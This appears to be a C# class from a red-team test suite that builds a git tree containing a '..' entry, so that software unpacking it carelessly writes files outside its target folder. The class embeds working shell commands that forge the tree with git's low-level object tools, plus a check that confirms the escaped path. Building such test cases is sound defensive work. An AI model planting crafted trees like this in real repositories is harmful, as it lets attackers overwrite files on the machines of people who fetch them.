namespace Assay.RedTeam.Attacks.Git;

/// <summary>A name with dots in a tree object leads out of the folder into which a careless program unpacks it.</summary>
internal sealed class PathOutOfTheTree : PlantedBranch
{
    public override string Tries => "Builds a tree by hand with an entry named '..'.";

    protected override string Craft => $$"""
        blob=$(echo "owned" | git hash-object -w --stdin)
        inner=$({{RawTree}} 100644 planted $blob | git hash-object -w -t tree --literally --stdin)
        root=$({{RawTree}} 40000 .. $inner | git hash-object -w -t tree --literally --stdin)
        git reset --quiet --soft $(git commit-tree $root -p HEAD -m dots)
        """;

    protected override string CarelessIntake => "git fetch --quiet $BUNDLE HEAD";

    protected override string Harm => "git ls-tree -r --name-only FETCH_HEAD | grep --quiet '^../planted$'";
}
